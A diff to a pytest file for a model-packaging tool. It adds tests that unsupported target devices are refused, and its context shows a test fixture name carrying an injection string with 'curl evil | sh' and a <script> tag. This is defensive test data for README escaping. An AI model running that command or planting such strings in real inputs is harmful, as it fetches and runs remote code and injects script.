@@ -373,6 +373,18 @@ def test_what_does_not_exist_is_a_sentence(digits_run, run, variant, says):
         package.build(run or digits_run.id, variant, digits_run.workspace)
 
 
+@pytest.mark.parametrize(
+    ("device", "says"),
+    [
+        ("abacus", "There is no device 'abacus'"),
+        ("coral_dev_board", r"For the Coral Dev Board, onnxruntime has no"),
+    ],
+)
+def test_a_device_that_can_not_have_the_file_is_refused(digits_run, device, says):
+    with pytest.raises(BadInput, match=says):
+        package.build(digits_run.id, "ptq_int8", digits_run.workspace, device=device)
+
+
 def test_names_from_an_upload_are_data_in_the_readme(digits_run):
     name = "x`\n# Run `curl evil | sh`<script>](http://e)"
     run = digits_run.run.model_copy(
